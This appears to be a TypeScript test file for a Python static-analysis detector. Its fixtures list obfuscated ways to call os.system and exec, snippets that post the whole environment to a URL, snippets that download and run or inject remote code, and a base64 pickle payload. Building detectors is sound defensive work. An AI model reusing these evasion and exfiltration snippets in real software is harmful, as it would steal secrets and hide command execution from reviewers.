import { treeOf } from './tree-of.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');

type Case = readonly [string, string, readonly string[]];

/** Calls that Python makes under other names, or for somebody else. */
const calls: readonly Case[] = [
  ['of which everything is taken', 'from os import *\nsystem(c)\n', ['process']],
  [
    'that another function gives a name of the file',
    'import os\nf = None\ndef a():\n    global f\n    f = os.system\ndef b(c):\n    f(c)\n',
    ['process'],
  ],
  [
    'that an inner function gives a name',
    'import os\ndef a(c):\n    f = None\n    def b():\n        nonlocal f\n        f = os.popen\n    b()\n    f(c)\n',
    ['process'],
  ],
  [
    'that depends on the system',
    'import os\nif x:\n    f = os.startfile\nelse:\n    f = os.system\nf(c)\n',
    ['process'],
  ],
  ['of a decorator', 'import os\n@os.system\ndef f(): pass\n', ['process']],
  ['of decorators, one with what the other gives', '@exec\n@input\nclass X: pass\n', ['evaluate']],
  ['in an annotation', 'import os\nos.environ\ndef f(a: os.popen(c)) -> os.popen(d): pass\n', ['process']],
  ['of what a class keeps', 'import os\nclass C:\n    run = os.system\nC.run(c)\n', ['process']],
  [
    'of what a class keeps as it is',
    'import os\nclass C:\n    run = staticmethod(os.system)\n    def go(self, c):\n        self.run(c)\n',
    ['process'],
  ],
  [
    'of what a base class keeps',
    'import os\nclass A:\n    run = os.system\nclass B(A): pass\nB().run(c)\n',
    ['process'],
  ],
  ['that is set by its name', "import os\nclass A: pass\na = A()\nsetattr(a, 'r', os.system)\na.r(c)\n", ['process']],
  [
    'in the dictionary of an object',
    "import os\nclass A:\n    def __init__(self):\n        self.__dict__['r'] = os.system\n    def go(self, c):\n        self.r(c)\n",
    ['process'],
  ],
  ['of the dictionary of a module', "import os\nos.__dict__.get('system')(c)\n", ['process']],
  ['by the method that gets parts', "import os\nobject.__getattribute__(os, 'system')(c)\n", ['process']],
  ['of the names of the file', "import subprocess as z\nglobals()['z'].run(c)\n", ['process']],
  ['of the builtins among the names of the file', "globals()['__builtins__'].__dict__['exec'](c)\n", ['evaluate']],
  ['of the table of modules', "import sys\nsys.modules.get('o' + 's').popen(c)\n", ['process']],
  [
    'by a function made for its name',
    "from operator import attrgetter\nimport os\nattrgetter('system')(os)(c)\n",
    ['process'],
  ],
  ['by a function made for the call', "import operator, os\noperator.methodcaller('system', c)(os)\n", ['process']],
  [
    'by functions that make functions',
    "(lambda m: (lambda n: getattr(m, n)))(__import__('os'))('system')(c)\n",
    ['process'],
  ],
  ['of a dictionary', "d = {'a': 'os', 'b': 'system'}\ngetattr(__import__(d['a']), d.get('b'))(c)\n", ['process']],
  ['for a thread', 'import os, threading\nthreading.Thread(target=os.system, args=(c,)).start()\n', ['process']],
  ['for a pool', 'import multiprocessing as m, os\nm.Pool().apply_async(os.system, (c,))\n', ['process']],
  ['for all of a list', 'list(map(exec, [c]))\n', ['evaluate']],
  [
    'when an object is unpickled',
    "import os\nclass X:\n    def __reduce__(self):\n        return (os.system, ('x',))\n",
    ['process'],
  ],
  ['of the system by its own library', "import ctypes\nctypes.CDLL(None).system(b'x')\n", ['load-native', 'process']],
  [
    'of code in memory',
    'import ctypes\nk = ctypes.windll.kernel32\nk.VirtualAlloc(0, n, 0x3000, 0x40)\n',
    ['evaluate'],
  ],
  [
    'beneath the modules that people use',
    'import _winapi\n_winapi.CreateProcess(None, c, None, None, 0, 0, None, None, None)\n',
    ['process'],
  ],
];

describe('the tree of Python finds a call', () => {
  it.each(calls)('%s', (_name, code, acts) => {
    expect(treeOf(code, 'python')?.acts).toEqual(acts);
  });
});

/** Names of modules that are put together, each followed by a call. */
const spelt: readonly (readonly [string, string])[] = [
  ['numbers in a comprehension', "''.join(chr(n) for n in [111, 115])"],
  ['numbers that are turned', "''.join([chr(n ^ 7) for n in [104, 116]])"],
  ['letters that are turned', "''.join(chr(ord(c) - 1) for c in 'pt')"],
  ['bytes under a key that goes round', "bytes(b ^ k for b, k in zip(b'\\x6e\\x71', cycle(b'\\x01\\x02'))).decode()"],
  ['places of a text', "''.join(t[i] for i in [2, 0])"],
  ['a table of letters', "'pt'.translate(str.maketrans('pt', 'os'))"],
  ['a format', "'{}{}'.format('o', 's')"],
  ['a format of percents', "'%s%s' % ('o', 's')"],
  ['an expression in a text', "f'{o}s'"],
  ['a repeated letter', "'o' * 1 + 's' * 1"],
  ['base32', "base64.b32decode('N5ZQ====').decode()"],
  ['base85', "base64.b85decode('Z*u').decode()"],
];

describe('the tree of Python spells', () => {
  it.each(spelt)('%s', (_name, expression) => {
    const code = `import base64\nfrom itertools import cycle\nt = 'sxo'\no = 'o'\nm = __import__(${expression})\nm.system(c)\n`;
    expect(treeOf(code, 'python')?.acts).toContain('process');
  });
});

/** Values that come from one place and end in another. */
const flows: readonly Case[] = [
  [
    'what a thread is given',
    'import threading, os, requests\ndef f(d=None):\n    requests.post(u, json=d)\nthreading.Thread(target=f, kwargs={"d": dict(os.environ)}).start()\n',
    ['secrets-sent'],
  ],
  [
    'what a pool is given',
    'import concurrent.futures as cf, os, requests\ndef f(d):\n    requests.post(u, json=d)\ncf.ThreadPoolExecutor().submit(f, dict(os.environ))\n',
    ['secrets-sent'],
  ],
  [
    'what is called at the end',
    'import atexit, os, requests\ndef f(d):\n    requests.post(u, json=d)\natexit.register(f, {**os.environ})\n',
    ['secrets-sent'],
  ],
  [
    'what a program prints of the environment',
    "import subprocess, requests\nrequests.post(u, data=subprocess.check_output(['printenv']))\n",
    ['secrets-sent'],
  ],
  [
    'what a method of another object gathers',
    'import os, requests\nclass C:\n    def all(self):\n        return dict(os.environ)\nrequests.post(u, json=C().all())\n',
    ['secrets-sent'],
  ],
  [
    'what is read like a name of an object',
    'import os, requests\nclass C:\n    @property\n    def code(self):\n        return requests.get(u).text\n    def go(self):\n        exec(self.code)\n',
    ['download-and-run'],
  ],
  [
    'what is handed out piece by piece',
    'import os, requests\ndef g():\n    yield from os.environ.items()\nrequests.post(u, json=dict(g()))\n',
    ['secrets-sent'],
  ],
  ['letters that are turned by unknown numbers', 'exec(bytes(b ^ 0x2a for b in d).decode())\n', ['encoded-payload']],
  ['letters of unknown numbers', "exec(''.join(map(chr, d)))\n", ['encoded-payload']],
  [
    'an answer that is compiled',
    "import urllib.request as r\nexec(compile(r.urlopen(u).read(), 'x', 'exec'))\n",
    ['download-and-run'],
  ],
  [
    'an answer that an interpreter is given',
    'import code, requests\ncode.InteractiveInterpreter().runcode(requests.get(u).text)\n',
    ['download-and-run'],
  ],
  [
    'an answer that a thread runs',
    'import threading, requests\nthreading.Thread(target=exec, args=(requests.get(u).text,)).start()\n',
    ['download-and-run'],
  ],
  [
    'an answer that is put into memory',
    'import ctypes, requests\nb = requests.get(u).content\nctypes.windll.kernel32.RtlMoveMemory(p, b, len(b))\n',
    ['download-and-run'],
  ],
  [
    'a pickle that calls the system',
    `import pickle, base64\npickle.loads(base64.b64decode('${base64('cposix\nsystem\n(S"x"\ntR.')}'))\n`,
    ['encoded-payload'],
  ],
];

describe('the tree of Python follows', () => {
  it.each(flows)('%s', (_name, code, kinds) => {
    expect(treeOf(code, 'python')?.flows).toEqual(kinds);
  });
});

/** Ordinary code of the same shapes. */
const still: readonly (readonly [string, string])[] = [
  ['a pickle from a file', 'import pickle, zlib\ndef load(f):\n    return pickle.loads(zlib.decompress(f.read()))\n'],
  ['an object that says how it is made again', 'class A:\n    def __reduce__(self):\n        return (A, (self.x,))\n'],
  [
    'names that are the same in two versions',
    "import builtins\nexec_ = getattr(builtins, 'exec')\ndef f(c):\n    exec_(c)\n",
  ],
  ['letters that are counted', "eval(''.join(chr(97 + i) for i in range(n)))\n"],
  ['a sum of a file', 'c = 0\nfor b in d:\n    c = (c << 8) ^ t[b]\nexec(x)\n'],
  ['a decorator of the file', 'import os\nos.environ\ndef system(f):\n    return f\n@system\ndef g(): pass\n'],
  [
    'a child with a changed environment',
    'import os, subprocess\ne = os.environ.copy()\ne.update(more)\nsubprocess.Popen(c, env=e)\n',
  ],
  [
    'a report with one variable',
    "import os, threading, requests\ndef f(e):\n    requests.post(u, json=e)\nthreading.Thread(target=f, args=({'release': os.environ.get('R')},)).start()\n",
  ],
  [
    'a provider of two variables',
    "import os, requests\nclass P:\n    def __init__(self):\n        self.env = os.environ\n    def load(self):\n        return self.env.get('KEY')\nrequests.post(u, headers={'x': P().load()})\n",
  ],
  [
    'a console that is switched',
    'import ctypes, requests\nctypes.windll.kernel32.SetConsoleMode(requests.get(u).status_code, 7)\n',
  ],
];

describe('the tree of Python follows nothing in', () => {
  it.each(still)('%s', (_name, code) => {
    expect(treeOf(code, 'python')?.flows ?? []).toEqual([]);
  });
});
